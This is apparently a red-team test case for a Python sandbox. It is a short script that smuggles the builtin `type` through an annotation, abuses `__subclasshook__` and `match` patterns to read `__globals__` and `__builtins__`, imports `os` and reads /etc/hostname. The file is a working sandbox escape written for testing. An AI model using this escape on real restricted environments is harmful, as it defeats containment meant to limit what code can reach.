# family: red team, round 8 (annotation_subscript_type_name)
# Inside annotations names are tagged "class info", and that tag skips the rule that keeps the builtin
# `type` (a metaclass) from being used as a value. Annotations are evaluated where they stand (a
# module-level `name: expr` runs expr), so `slot: keeper[type]` hands the metaclass to keeper.__getitem__.
import abc


class Keeper:
    def __init__(self):
        self.kept = []

    def __getitem__(self, key):
        self.kept.append(key)
        return key


keeper = Keeper()
slot: keeper[type]


def metaclass_of_base():
    return keeper.kept[0]


def _d(word):
    u = "_"
    return u + u + word + u + u


def read(obj, attribute):
    meta = metaclass_of_base()
    probe = meta("Probe", (abc.ABC,), {_d("subclasshook"): classmethod(lambda c, s: True), _d("match_args"): (attribute,)})
    match obj:
        case probe(value):
            return value


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return metaclass_of_base().__name__, type(osmod).__name__, osmod.getpid(), b["open"]("/etc/hostname").read().strip()


print(run())
